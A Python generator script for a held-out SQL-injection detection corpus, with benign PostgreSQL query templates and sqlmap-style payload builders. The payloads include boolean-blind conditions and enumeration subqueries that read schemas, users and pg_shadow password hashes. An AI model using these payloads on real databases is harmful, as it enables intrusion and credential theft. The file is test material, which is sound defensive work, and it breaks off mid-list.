#!/usr/bin/env python3
"""Generator for the ninth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_ninth.py [OUTPUT]      # default: ninth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions.  Everything is written for this file: 54 application
templates (`n9_*`) on tables none of the earlier corpora use (airline crew and
baggage, insurance quotes, farming, museum loans, hotel folios, court dockets,
pharmacy, transit fares, ports, recruiting, wine cellars, genealogy,
translation, car rental, crowdfunding, gyms, cinemas, print queues, bike
docks, customs, cloud inventory, solar telemetry, chess, survey exports, lab
aliquots, sequencing runs), sqlmap-style payloads rebuilt from its technique
and boundary families with enumeration-style inference expressions, new
hand-written PostgreSQL cores, new complex benign generators (`cx9_*`) and
regression-test-style statements (`regress9:<file>.sql`).

Labelling: a filled template is an attack only when its token skeleton (the
lexer in corpus_kit.py: literals collapsed to their kind, everything else kept) is
not one of the skeletons of benign fills of the same template; i.e. the input
stopped being the single token its slot expects.  Comment-truncation rows
must in addition comment out template text that carries meaning.  Attack
strings escaped correctly for their slot are benign (`escaped_attack_string`).
Rows whose text occurs in one of the earlier corpora are skipped.

Checked once against PostgreSQL 15.18's raw parser (throwaway cluster, each
statement sent as `SELECT 1/0;` + statement in one simple query, so nothing
runs): every benign row parses; 856 of the 1,316 attacks parse, 460 do not
(foreign-dialect sqlmap vectors, wrong boundaries, cut-open literals).  There
is no `parses` field, as in the seventh and eighth corpora.
"""
import os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (ATTACK_TARGET, OBF_FAMILIES, SlotCorpus, backslash_quotes, by_template, carries_meaning, chrs, double_quotes, esc,  # noqa: E402
                        load_earlier, q, quoted_end, randnum, rdate, registry, regress_list, rword, slot_split)
import corpus_kit  # noqa: E402
from functools import partial  # noqa: E402

SEED = 909090
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth")

# ---------------------------------------------------------------- application templates
# slot types: q '...', e E'...', d $note$...$note$, qi "...", n number, list numbers,
# bool, col (ORDER BY expression), dir (ASC/DESC), ident (bare identifier)
T = [
 ("n9_crew_roster", "SELECT crew_id, duty_code, report_at FROM crew_rosters WHERE base_iata = '{a}' AND duty_date = '{b}'::date ORDER BY report_at",
  {"a": ("q", ["LHR", "MAN", "DUB"]), "b": ("q", ["2024-11-03", "2025-02-17"])}),
 ("n9_boarding_pass", "SELECT bp.seat_no, bp.boarding_zone, fl.gate FROM boarding_passes bp JOIN flight_legs fl USING (leg_id) WHERE bp.record_locator = upper('{a}') AND bp.pax_surname = '{b}'",
  {"a": ("q", ["k7vq2m", "XZ41PL"]), "b": ("q", ["Nakamura", "Osei"])}),
 ("n9_bag_trace", "SELECT scanned_at, station_code, belt_no FROM baggage_tag_scans WHERE tag_no = {a} ORDER BY scanned_at DESC FETCH FIRST {b} ROWS ONLY",
  {"a": ("n", ["7125480193", "220031"]), "b": ("n", ["5", "20"])}),
 ("n9_policy_quote", "INSERT INTO policy_quotes (applicant_ref, product_line, sum_insured, postcode) VALUES ('{a}', '{b}', {c}, '{d}') RETURNING quote_id, premium_estimate",
  {"a": ("q", ["APP-55102", "APP-90017"]), "b": ("q", ["home-contents", "travel-annual"]), "c": ("n", ["45000", "120000.00"]), "d": ("q", ["BS1 4DJ", "CF10 1EP"])}),
 ("n9_policy_riders", "SELECT rider_code, monthly_premium FROM policy_riders WHERE policy_no = '{a}' AND rider_code = ANY(string_to_array('{b}', ','))",
  {"a": ("q", ["PN-20-004417", "PN-19-118230"]), "b": ("q", ["GADGET,LEGAL", "BIKE"])}),
 ("n9_harvest_lots", "SELECT lot_no, crop, tonnes FROM harvest_lots WHERE field_block = '{a}' AND harvested_on >= date '{b}' AND moisture_pct <= {c}",
  {"a": ("q", ["NW-3", "Glebe-12"]), "b": ("q", ["2024-08-01", "2023-09-15"]), "c": ("n", ["14.5", "18"])}),
 ("n9_soil_topsoil", "SELECT field_block, avg(ph) FILTER (WHERE depth_cm <= {a}) AS topsoil_ph, count(*) FROM soil_samples WHERE sampled_by = '{b}' GROUP BY field_block",
  {"a": ("n", ["15", "30"]), "b": ("q", ["agronomy-team", "j.keller"])}),
 ("n9_irrigation_valve", "UPDATE irrigation_zones SET valve_state = '{a}', flow_lpm = {b} WHERE zone_code = '{c}' AND farm_id = {d}",
  {"a": ("q", ["open", "closed"]), "b": ("n", ["42.5", "0"]), "c": ("q", ["Z-07", "orchard-east"]), "d": ("n", ["118", "3"])}),
 ("n9_artwork_similar", "SELECT accession_no, title, artist FROM artwork_catalog WHERE similarity(title, '{a}') > 0.35 ORDER BY similarity(title, '{a}') DESC LIMIT 40",
  {"a": ("q", ["Water Lilies", "Nocturne in Blue"])}),
 ("n9_artwork_loans", "SELECT loan_ref, lender_museum, insured_value FROM artwork_loans WHERE (lender_museum, loan_year) = ('{a}', {b}) AND returned_on IS NULL",
  {"a": ("q", ["Rijksmuseum", "Kunsthaus Zürich"]), "b": ("n", ["2024", "2019"])}),
 ("n9_exhibit_rooms", "SELECT room_code, lux_limit FROM exhibit_rooms WHERE room_code IN (SELECT room_code FROM exhibit_schedule WHERE exhibit_slug = '{a}') ORDER BY {b}",
  {"a": ("q", ["silk-roads", "early-photography"]), "b": ("col", ["lux_limit", "room_code", "floor_no"])}),
 ("n9_folio_charges", "SELECT charge_id, description, amount FROM hotel_folio_charges WHERE folio_no = {a} AND posted_on BETWEEN '{b}' AND '{c}' ORDER BY posted_on {d}",
  {"a": ("n", ["880214", "77"]), "b": ("q", ["2024-07-01", "2025-04-11"]), "c": ("q", ["2024-07-09", "2025-04-14"]), "d": ("dir", ["DESC", "ASC"])}),
 ("n9_housekeeping_task", "INSERT INTO housekeeping_tasks (room_no, task_kind, note, due_by) SELECT {a}, '{b}', '{c}', now() + interval '2 hours' WHERE NOT EXISTS (SELECT 1 FROM housekeeping_tasks WHERE room_no = {a} AND done_at IS NULL)",
  {"a": ("n", ["412", "1203"]), "b": ("q", ["turndown", "deep-clean"]), "c": ("q", ["guest asked for extra pillows", "VIP arrival"])}),
 ("n9_minibar_restock", "UPDATE minibar_items AS m SET qty = v.qty FROM (VALUES ('{a}', {b})) AS v(sku, qty) WHERE m.sku = v.sku AND m.room_no = {c}",
  {"a": ("q", ["MB-COLA-330", "MB-NUTS-50"]), "b": ("n", ["2", "6"]), "c": ("n", ["305", "1118"])}),
 ("n9_docket_search", "SELECT entry_no, filed_at, summary FROM docket_entries WHERE case_caption ILIKE '%' || '{a}' || '%' AND court_code = '{b}' ORDER BY filed_at DESC LIMIT 50",
  {"a": ("q", ["Halvorsen", "Acme Holdings"]), "b": ("q", ["EWHC-QB", "NDCAL"])}),
 ("n9_matter_hours", "SELECT fee_earner, sum(minutes) / 60.0 AS hours FROM matter_time_entries WHERE matter_no = '{a}' GROUP BY ROLLUP (fee_earner) HAVING sum(minutes) > {b}",
  {"a": ("q", ["M-2024-0091", "M-2023-1187"]), "b": ("n", ["0", "120"])}),
 ("n9_draft_discard", "WITH gone AS (DELETE FROM court_filing_drafts WHERE draft_id = {a} AND author_login = '{b}' RETURNING draft_id) SELECT count(*) FROM gone",
  {"a": ("n", ["55019", "8"]), "b": ("q", ["r.acheampong", "m.lindgren"])}),
 ("n9_rx_fills", "SELECT fill_id, ndc_code, qty_dispensed FROM prescription_fills WHERE patient_key = '{a}' AND filled_at > current_date - {b} ORDER BY filled_at DESC",
  {"a": ("q", ["PK-00918272", "PK-31100045"]), "b": ("n", ["90", "365"])}),
 ("n9_formulary_prefix", "SELECT ndc_code, brand_name, tier FROM drug_formulary WHERE starts_with(generic_name, '{a}') AND tier <= {b} ORDER BY generic_name",
  {"a": ("q", ["amox", "metfor"]), "b": ("n", ["2", "4"])}),
 ("n9_fare_taps", "SELECT tap_at, stop_code, fare_cents FROM fare_taps WHERE card_serial = '{a}' AND tap_at::date = '{b}' ORDER BY tap_at",
  {"a": ("q", ["04A1B2C3D4E5F6", "0490FF1C22"]), "b": ("q", ["2024-03-18", "2025-01-06"])}),
 ("n9_stops_nearby", "SELECT stop_code, stop_name FROM transit_stops WHERE earth_box(ll_to_earth({a}, {b}), {c}) @> ll_to_earth(lat, lon) LIMIT 25",
  {"a": ("n", ["53.3498", "-37.8136"]), "b": ("n", ["-6.2603", "144.9631"]), "c": ("n", ["400", "1500"])}),
 ("n9_vessel_calls", "SELECT call_id, vessel_imo, eta FROM vessel_calls WHERE port_unlocode = '{a}' AND eta < '{b}'::timestamptz + interval '36 hours' ORDER BY eta",
  {"a": ("q", ["NLRTM", "SGSIN"]), "b": ("q", ["2024-10-02 06:00", "2025-03-30"])}),
 ("n9_berth_booking", "INSERT INTO berth_bookings (berth_code, vessel_imo, window_start, window_end) VALUES ('{a}', {b}, '{c}', '{d}') ON CONFLICT ON CONSTRAINT berth_bookings_no_overlap DO NOTHING RETURNING booking_id",
  {"a": ("q", ["B-14", "TERM2-07"]), "b": ("n", ["9321483", "9811000"]), "c": ("q", ["2024-10-03 04:00"]), "d": ("q", ["2024-10-04 18:00"])}),
 ("n9_container_history", "SELECT container_no, move_kind, moved_at FROM container_moves WHERE container_no = '{a}' UNION ALL SELECT container_no, 'archived', moved_at FROM container_moves_archive WHERE container_no = '{a}' ORDER BY 3",
  {"a": ("q", ["MSCU4410297", "TGHU8812034"])}),
 ("n9_job_search", "SELECT posting_id, title FROM job_postings WHERE remote_ok AND salary_max >= {a} AND title ILIKE ANY (ARRAY['%{b}%', '%engineer%']) ORDER BY posted_on DESC",
  {"a": ("n", ["60000", "95000"]), "b": ("q", ["data", "platform"])}),
 ("n9_candidate_stage", "UPDATE candidate_applications SET stage = '{a}', stage_changed_at = clock_timestamp() WHERE application_id = {b} AND stage <> 'hired'",
  {"a": ("q", ["phone-screen", "offer"]), "b": ("n", ["31877", "402"])}),
 ("n9_interview_slots", "SELECT slot_start, interviewer FROM interview_slots WHERE panel_code = '{a}' AND slot_start >= '{b}'::timestamptz AND booked_by IS NULL ORDER BY slot_start LIMIT {c}",
  {"a": ("q", ["ENG-BACKEND", "DESIGN-2"]), "b": ("q", ["2024-12-02 09:00+00", "2025-01-13"]), "c": ("n", ["8", "3"])}),
 ("n9_cellar_bins", "SELECT bin_code, vintage, bottles FROM cellar_bins WHERE appellation = '{a}' AND vintage BETWEEN {b} AND {c} ORDER BY vintage {d}, bin_code",
  {"a": ("q", ["Pauillac", "Barolo"]), "b": ("n", ["2005", "1998"]), "c": ("n", ["2016", "2010"]), "d": ("dir", ["DESC", "ASC"])}),
 ("n9_ancestors", "WITH RECURSIVE anc AS (SELECT person_id, father_id, mother_id, 0 AS gen FROM family_tree_people WHERE person_id = {a} UNION ALL SELECT p.person_id, p.father_id, p.mother_id, anc.gen + 1 FROM family_tree_people p JOIN anc ON p.person_id IN (anc.father_id, anc.mother_id) WHERE anc.gen < {b}) SELECT * FROM anc",
  {"a": ("n", ["10442", "7"]), "b": ("n", ["4", "8"])}),
 ("n9_parish_soundex", "SELECT record_id, surname, event_year FROM parish_register WHERE soundex(surname) = soundex('{a}') AND event_year BETWEEN {b} - 5 AND {b} + 5",
  {"a": ("q", ["Ashworth", "Pryce"]), "b": ("n", ["1851", "1790"])}),
 ("n9_glossary_term", "SELECT term_id, target_text FROM glossary_terms WHERE source_lang = '{a}' AND target_lang = '{b}' AND source_text = '{c}'",
  {"a": ("q", ["en", "de"]), "b": ("q", ["fr-CA", "ja"]), "c": ("q", ["invoice", "lead time"])}),
 ("n9_translation_job", "INSERT INTO translation_jobs (client_ref, word_count, notes) VALUES ('{a}', {b}, E'{c}')",
  {"a": ("q", ["CL-7781", "CL-0042"]), "b": ("n", ["1200", "85"]), "c": ("e", ["rush, legal register", "keep brand names"])}),
 ("n9_glossary_note", "UPDATE glossary_terms SET usage_note = E'{a}', reviewed_at = now() WHERE term_id = {b}",
  {"a": ("e", ["avoid in UI strings", "plural only"]), "b": ("n", ["4410", "77"])}),
 ("n9_rental_damage", "UPDATE rental_agreements SET damage_notes = coalesce(damage_notes, '') || E'\\n' || '{a}', odometer_in = {b} WHERE agreement_no = '{c}'",
  {"a": ("q", ["scratch rear bumper", "windscreen chip"]), "b": ("n", ["48211", "1020"]), "c": ("q", ["RA-88-1043", "RA-90-0007"])}),
 ("n9_branch_pickups", "SELECT agreement_no, plate FROM rental_agreements WHERE pickup_branch = '{a}' AND pickup_at::date = current_date + {b}",
  {"a": ("q", ["GLA-AIRPORT", "BHX-CITY"]), "b": ("n", ["0", "1"])}),
 ("n9_backer_rewards", "SELECT b.backer_id, t.tier_name FROM campaign_backers b JOIN reward_tiers t ON t.tier_id = b.tier_id WHERE b.campaign_slug = '{a}' AND t.pledge_min >= {b} ORDER BY {c} NULLS FIRST",
  {"a": ("q", ["solar-kettle", "tabletop-odyssey"]), "b": ("n", ["25", "100"]), "c": ("col", ["t.pledge_min", "b.backer_id", "t.tier_name"])}),
 ("n9_gym_peak", "SELECT date_bin('15 minutes', checked_in_at, timestamp '2024-01-01') AS slot, count(*) FROM gym_checkins WHERE club_code = '{a}' GROUP BY 1 ORDER BY 2 DESC LIMIT {b}",
  {"a": ("q", ["CLUB-SOHO", "CLUB-LEEDS-2"]), "b": ("n", ["10", "4"])}),
 ("n9_workout_log", "INSERT INTO workout_sessions (member_no, activity, duration_s, perceived_effort) VALUES ({a}, '{b}', {c}, {d}) ON CONFLICT DO NOTHING",
  {"a": ("n", ["60217", "9"]), "b": ("q", ["rowing", "spin class"]), "c": ("n", ["1800", "2700"]), "d": ("n", ["6", "8"])}),
 ("n9_seat_holds", "SELECT seat_label FROM screening_seat_holds WHERE screening_id = {a} AND hold_token = '{b}'::uuid AND expires_at > now() FOR UPDATE SKIP LOCKED",
  {"a": ("n", ["90310", "44"]), "b": ("q", ["3f0c2a8e-7b1d-4c55-9e2a-0d6f4b1c8a97", "0b8e77a2-51c4-4f0e-8d3b-6a2c9e1f4d05"])}),
 ("n9_print_queue", "SELECT job_id, pages, status FROM print_jobs WHERE printer_queue = '{a}' ORDER BY submitted_at LIMIT {b} OFFSET {c}",
  {"a": ("q", ["floor3-colour", "library-mono"]), "b": ("n", ["25", "10"]), "c": ("n", ["0", "50"])}),
 ("n9_bike_docks", "SELECT dock_id, bikes_available FROM bike_docks WHERE station_code = '{a}' AND bikes_available > {b} AND status = ANY('{{active,low}}'::text[])",
  {"a": ("q", ["ST-0412", "harbour-north"]), "b": ("n", ["0", "2"])}),
 ("n9_customs_hs", "SELECT declaration_no, hs_code, declared_value FROM customs_declarations WHERE hs_code LIKE '{a}%' AND origin_country = '{b}' AND declared_value > {c}",
  {"a": ("q", ["8471", "0901"]), "b": ("q", ["VN", "CO"]), "c": ("n", ["1000", "250.50"])}),
 ("n9_customs_brokers", "SELECT declaration_no, status FROM customs_declarations WHERE broker_id IN ({a}) AND lodged_on = current_date",
  {"a": ("list", ["17, 204", "9"])}),
 ("n9_vm_labels", "SELECT instance_id, vcpu, region FROM vm_instances WHERE labels ->> '{a}' = '{b}' AND vcpu >= {c}",
  {"a": ("q", ["team", "env"]), "b": ("q", ["payments", "staging"]), "c": ("n", ["2", "16"])}),
 ("n9_bucket_listing", "SELECT object_key, size_bytes FROM bucket_objects WHERE bucket = '{a}' AND object_key LIKE '{b}%' ORDER BY object_key LIMIT 1000",
  {"a": ("q", ["media-prod", "backups-eu"]), "b": ("q", ["invoices/2024/", "thumbs/"])}),
 ("n9_inverter_peak", "SELECT inverter_sn, max(ac_kw) FROM solar_inverter_readings WHERE site_code = '{a}' AND read_at >= date_trunc('day', now()) - interval '{b} days' GROUP BY inverter_sn",
  {"a": ("q", ["PV-CORNWALL-01", "PV-ALMERIA"]), "b": ("q", ["7", "1"])}),
 ("n9_chess_history", "SELECT game_id, white_login, black_login FROM chess_games WHERE '{a}' IN (white_login, black_login) AND rated = {b} ORDER BY ended_at DESC LIMIT 20",
  {"a": ("q", ["knightowl", "e4_enjoyer"]), "b": ("bool", ["true", "false"])}),
 ("n9_tenant_search_path", "SET search_path TO {a}, public",
  {"a": ("ident", ["tenant_0042", "acme_corp", "tenant_1187"])}),
 ("n9_vacuum_table", "VACUUM (ANALYZE) {a}",
  {"a": ("ident", ["bike_docks", "fare_taps", "print_jobs"])}),
 ("n9_survey_column", "SELECT \"{a}\", count(*) FROM survey_responses_2024 GROUP BY 1 ORDER BY 2 DESC",
  {"a": ("qi", ["Q3 satisfaction", "preferred_contact"])}),
 ("n9_case_note_fn", "SELECT add_case_note({a}, $note${b}$note$)",
  {"a": ("n", ["5531", "120"]), "b": ("d", ["called back, left voicemail", "customer's address updated"])}),
 ("n9_outage_report", "INSERT INTO outage_reports (feeder_code, reported_by, detail, reported_at) VALUES ('{a}', '{b}', '{c}', now()) RETURNING report_id",
  {"a": ("q", ["FDR-11KV-208", "FDR-33KV-12"]), "b": ("q", ["field-crew-4", "smart-meter"]), "c": ("q", ["tree on line", "transformer hum"])}),
 ("n9_aliquots", "SELECT aliquot_id, volume_ul FROM sample_aliquots WHERE parent_sample = '{a}' AND volume_ul >= {b}::numeric ORDER BY aliquot_id",
  {"a": ("q", ["S-2024-00871", "S-2023-10442"]), "b": ("n", ["50", "12.5"])}),
 ("n9_seq_runs", "SELECT run_id, flowcell, q30_pct FROM sequencing_runs WHERE instrument_sn = '{a}' AND started_at > to_timestamp({b}) ORDER BY started_at",
  {"a": ("q", ["NB551204", "A01877"]), "b": ("n", ["1717200000", "1690000000"])}),
]
TAG = "$note$"
CLOSER = {"q": "'", "e": "'", "d": TAG, "qi": '"'}
STRING_TYPES = ("q", "e", "d", "qi")


def render(tpl, fills, raw=(), escf=None):
    """The template with its slots filled: slots named in raw go in as typed,
    the others escaped for their literal (or by escf[slot])."""
    vals = {k: (fills[k] if k in raw else escf[k](fills[k]) if escf and k in escf else esc(tpl[2][k][0], fills[k])) for k in tpl[2]}
    return tpl[1].format(**vals)


CANON = {"q": ["x", "", "O'Brien", "a b c", "2024-01-01", "50%"], "e": ["x", "", "it's", "a\\b", "line\nbreak"],
         "d": ["x", "", "it's", "a \"b\""], "qi": ["x", "a \"b\" c", "Q1"], "n": ["1", "0", "-2", "3.5", "120000", "0.25"],
         "list": ["1", "1, 2", "3,4,5", "10, 20, 30, 40"], "bool": ["true", "false", "TRUE", "False"],
         "dir": ["ASC", "DESC", "asc", "desc"], "col": ["1", "2"], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON, render=render))


@by_template
def slot_info(tpl, slot):
    """Paren depth at the slot, LIKE context and whether the template text after
    the slot (and its closing quote) means something."""
    pre, post, toks, rest = slot_split(tpl, slot, CLOSER, render)
    depth = sum(1 for k, _ in toks if k in "([") - sum(1 for k, _ in toks if k in ")]")
    return {"type": tpl[2][slot][0], "depth": depth, "like_before": pre.endswith("%"), "like_after": post.startswith("%"),
            "tail_means": carries_meaning(rest), "orig": tpl[2][slot][1]}


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["O'Brien", "Siobhán O'Donoghue", "D'Angelo Ferri", "Anse d'Hainault", "Île-d'Orléans", "Coeur d'Alene",
   "Lu'au supplies", "bishop's palace", "Rosalind O'Hanlon-Pryce", "K'naan", "Gov't grant", "Ta'izz", "Dun Laoghaire's pier",
   "O''Brien", "Ngāi Tū'ahuriri", "Châteauneuf-du-Pape d'Avignon", "Smith's Cider Co.", "Mo'orea", "Val-d'Oise", "rock'n'roll"],
 "input_plain": ["kingfisher", "boiler room", "copper pipes", "late checkout", "spare tyre", "north terrace", "runway lights",
   "sourdough", "quiet carriage", "lemon balm", "winter barley", "field notes", "blue lagoon", "vintage map", "side gate",
   "glass atrium", "cargo net", "night bus", "river walk", "oak cask"],
 "input_numeric_string": ["0042", "7.50", "2e5", "-1", "1999", "+33", "0.0", "000", "3,5", "1_000", "12345678901234567890"],
 "input_formatted": ["2025-06-30T23:59:59+05:30", "c1a5e0b4-2f3d-4a8b-9e7c-5d6f1a2b3c4d", "DE89370400440532013000", "+61 2 9374 4000",
   "LOT-24-0098/B", "17:45", "SW1A 1AA", "3.11.7", "¥12,800", "XXXX-XXXX-XXXX-0019", "2024-12-31", "192.0.2.44", "KA-18-MN-4410",
   "978-3-16-148410-0", "12.345,67", "rgb(34, 139, 34)", "/api/v3/stops/ST-0412", "51°30'26\"N 0°7'39\"W", "2025-Q2", "PT45M",
   "0xDEADBEEF", "MSCU 441029 7", "250ml", "31/01/2025", "2024-02-29 12:00:00.123456-08", "IMO 9321483", "ICD-10 J45.909"],
 "input_unicode": ["Renée Ødegård", "北京市朝阳区", "Ψυχή", "Добрый день", "rain ☔ check", "سلام علیکم", "crème brûlée", "Kırıkkale",
   "ＵＮＩＯＮ　ＳＥＬＥＣＴ", "zero\u200dwidth", "∑ ≠ ∞", "ﬁnance", "Maß", "n\u0303", "日本語テキスト", "ᏣᎳᎩ", "Ñandú", "Þórshöfn", "ሰላም", "🚲 dock"],
 "input_json_text": ['{"team": "payments", "tier": 2}', '[{"note": "don\'t"}]', '{"filter": "x=1 or y=2"}', 'true', '{"cmd": "DROP TABLE t"}',
   '{"dir": "C:\\\\data\\\\in"}', '{"v": 1.5e-3, "ok": null}', '["--", "/*", "*/"]', '{"q": "1\' OR \'1\'=\'1"}', '[]', '{"a": {"b": [1, {"c": "d"}]}}'],
 "input_url_email": ["https://bikes.example.org/st/412?ref=app&x=1", "mailto:ops+alerts@example.net", "sftp://drop.example.com/in/2024/",
   "first.o'hara@example.ie", "https://example.com/?q=select+from+where", "http://[2001:db8::17]:8443/health",
   "tel:+44-20-7946-0018", "https://example.org/docs#section-2.1", "a@b.co", "https://example.net/path%20with%20spaces;v=2"],
 "input_sql_words": ["Union Station", "Select Committee on Ethics", "Drop-in Centre", "Inner Join Cafe", "Table Mountain",
   "Insert Coin Arcade", "Sleep Inn Leeds", "Where's Wally", "Order of the Phoenix", "Grant Park", "Execute Order 66",
   "Null Island", "Like a Rolling Stone", "From Dusk Till Dawn", "Case closed", "Having a ball", "Benchmark Capital",
   "Truncated Cone Co.", "Update: delayed", "DELETE ME LATER", "Or Yehuda", "And Then There Were None", "CREATE conference"],
 "input_punctuation": ["!?", ";;", "**", "\\", "#1", "100%", "(see above)", "[draft]", "{x}", "<none>", "a;b", "--", "/**/",
   "&&", "...", "¡ojo!", "@home", "$20", "k=v", "'quoted'", "\"dq\"", "||", "::", "$$", "%_%", "1/2"],
 "input_whitespace": ["  two leading", "trailing two  ", "tab\tinside", "line one\nline two", "\r\n", "wide   gap", " ",
   "\ttabbed", "ends with newline\n", "mixed \t \n"],
}
SENTS = ["The dock at the north gate is out of service until Friday.", "Guest says: don't knock before 10 a.m.",
 "Please select the quieter room if one is free.", "Union members may park in bay C -- badge required.",
 "Insured value was updated; see the 'revised' schedule.", "Is 3 > 2? Yes; the second run passed QC.",
 "Drop the parcel at reception or with security.", "Order arrived at 14:05, two boxes (one damaged).",
 "Delete the duplicate scan before the audit.", "We'll join the call after lunch, or reschedule.",
 "Sample 4 of 12 needs re-spinning at 4000 rpm.", "Note: /* do not */ edit the legacy field by hand."]


# ---------------------------------------------------------------- sqlmap-style payloads
def mark(r):
    return "q" + rword(r, 3) + "q"


APP_TABLES = ["crew_rosters", "policy_quotes", "hotel_folio_charges", "prescription_fills", "vm_instances", "candidate_applications",
              "rental_agreements", "campaign_backers", "customs_declarations", "fare_taps", "artwork_loans", "docket_entries"]
APP_COLS = {"crew_rosters": ["crew_id", "duty_code"], "policy_quotes": ["applicant_ref", "premium_estimate"], "hotel_folio_charges": ["folio_no", "amount"],
            "prescription_fills": ["patient_key", "ndc_code"], "vm_instances": ["instance_id", "labels"], "candidate_applications": ["email", "stage"],
            "rental_agreements": ["agreement_no", "plate"], "campaign_backers": ["backer_id", "card_last4"], "customs_declarations": ["declaration_no", "broker_id"],
            "fare_taps": ["card_serial", "fare_cents"], "artwork_loans": ["loan_ref", "insured_value"], "docket_entries": ["entry_no", "summary"]}


def enum_expr(r):
    """What sqlmap asks for while enumerating a PostgreSQL back end."""
    cast = lambda e: "COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % e
    off = r.randint(0, 6)
    tbl = r.choice(APP_TABLES)
    col = r.choice(APP_COLS[tbl])
    k = r.randrange(13)
    if k == 0:
        return "(%s)" % cast(r.choice(["CURRENT_SCHEMA()", "CURRENT_USER", "SESSION_USER", "VERSION()", "INET_SERVER_ADDR()", "CURRENT_DATABASE()"]))
    if k == 1:
        return "(SELECT %s FROM pg_tables)" % cast("COUNT(DISTINCT(schemaname))")
    if k == 2:
        return "(SELECT DISTINCT(%s) FROM pg_tables OFFSET %d LIMIT 1)" % (cast("schemaname"), off)
    if k == 3:
        return "(SELECT %s FROM pg_tables WHERE schemaname IN (%s))" % (cast("COUNT(tablename)"), chrs("public"))
    if k == 4:
        return "(SELECT %s FROM pg_tables WHERE schemaname IN (%s) OFFSET %d LIMIT 1)" % (cast("tablename"), chrs("public"), off)
    if k == 5:
        return ("(SELECT %s FROM pg_namespace,pg_type,pg_attribute b JOIN pg_class a ON a.oid=b.attrelid WHERE a.relnamespace=pg_namespace.oid "
                "AND pg_type.oid=b.atttypid AND attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)" % (cast("attname"), chrs(tbl), chrs("public"), off % 3))
    if k == 6:
        return "(SELECT %s FROM pg_user OFFSET %d LIMIT 1)" % (cast("usename"), off % 3)
    if k == 7:
        return "(SELECT %s FROM pg_shadow WHERE usename=%s OFFSET 0 LIMIT 1)" % (cast("passwd"), chrs(r.choice(["postgres", "app_rw", "replicator"])))
    if k == 8:
        return "(SELECT (CASE WHEN (usesuper=true) THEN 1 ELSE 0 END) FROM pg_user WHERE usename=CURRENT_USER OFFSET 0 LIMIT 1)"
    if k == 9:
        return "(SELECT %s FROM pg_database OFFSET %d LIMIT 1)" % (cast("datname"), off % 4)
    if k == 10:
        return "(SELECT %s FROM public.%s)" % (cast("COUNT(*)"), tbl)
    if k == 11:
        return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (cast(col), tbl, col, off)
    return "(SELECT %s FROM pg_roles WHERE rolcanlogin OFFSET %d LIMIT 1)" % (cast("rolname"), off % 4)


def inference(r):
    e = enum_expr(r)
    k = r.randrange(4)
    if k == 0 or k == 1:
        return "ASCII(SUBSTRING(%s::text FROM %d FOR 1))>%d" % (e, r.randint(1, 32), r.choice([31, 47, 63, 79, 95, 103, 111, 115, 119, 127]))
    if k == 2:
        return "LENGTH(%s::text)>%d" % (e, r.choice([0, 1, 3, 7, 15, 31, 63]))
    return "ASCII(SUBSTRING(%s::text FROM %d FOR 1))=%d" % (e, r.randint(1, 20), r.randint(48, 122))


def comment(r, mysql=False, careful=False):
    c = r.choice(["--", "-- -", "-- %s" % rword(r, 4, upper=r.random() < 0.5), "--+", "-- " + rword(r, 4), "--"])
    if not careful and r.random() < 0.04:
        c = "/*"
    if mysql and r.random() < 0.5:
        c = "#"
    return c


def sqlmap_techniques(r, vector):
    """(title, dbms, family, kind, payload, needs_comment).  kind: cond | repl | order | stack | union."""
    R, R2, R3 = randnum(r), randnum(r), randnum(r)
    S = rword(r, 4, upper=r.random() < 0.5)
    M1, M2 = mark(r), mark(r)
    ST = r.choice([5, 5, 5, 3, 7, 10])
    HV = r.choice([5000000, 5000000, 10000000, 20000000])
    c = inference(r) if vector else "%d=%d" % (R, R)
    mode = "vector" if vector else "payload"
    case01 = "(SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END))" % c
    extract = case01
    if vector and r.random() < 0.5:
        e = enum_expr(r)
        extract = e if e.startswith("(SELECT") else "(SELECT %s)" % e[1:-1]
    out = [
     ("AND boolean-based blind - WHERE or HAVING clause", "generic", "sqlmap_boolean_blind", "cond", "AND %s" % c, False),
     ("AND boolean-based blind - WHERE or HAVING clause (comment)", "generic", "sqlmap_boolean_blind", "cond", "AND %s" % c, True),
     ("OR boolean-based blind - WHERE or HAVING clause", "generic", "sqlmap_boolean_blind", "cond-neg", "OR %s" % c, False),
     ("OR boolean-based blind - WHERE or HAVING clause (NOT)", "generic", "sqlmap_boolean_blind", "cond", "OR NOT %s" % ("%d=%d" % (R, R2) if not vector else "(%s)" % c), False),
     ("AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "sqlmap_boolean_blind", "cond",
      "AND %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, c, R, R2, R3), True),
     ("OR boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "sqlmap_boolean_blind", "cond-neg",
      "OR %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, c, R, R2, R3), True),
     ("AND boolean-based blind - WHERE or HAVING clause (bool*int)", "generic", "sqlmap_boolean_blind", "cond", "AND (%s)*%d" % (c, R), False),
     ("Boolean-based blind - Parameter replace (original value)", "generic", "sqlmap_boolean_blind", "repl-orig",
      "(SELECT (CASE WHEN (%s) THEN %%ORIG%% ELSE (SELECT %d UNION SELECT %d) END))" % (c, R2, R3), False),
     ("Boolean-based blind - Parameter replace (CASE)", "generic", "sqlmap_boolean_blind", "repl", "(CASE WHEN %s THEN %d ELSE NULL END)" % (c, R), False),
     ("PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", "PostgreSQL", "sqlmap_boolean_blind", "cond",
      "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (c, chrs(S)), False),
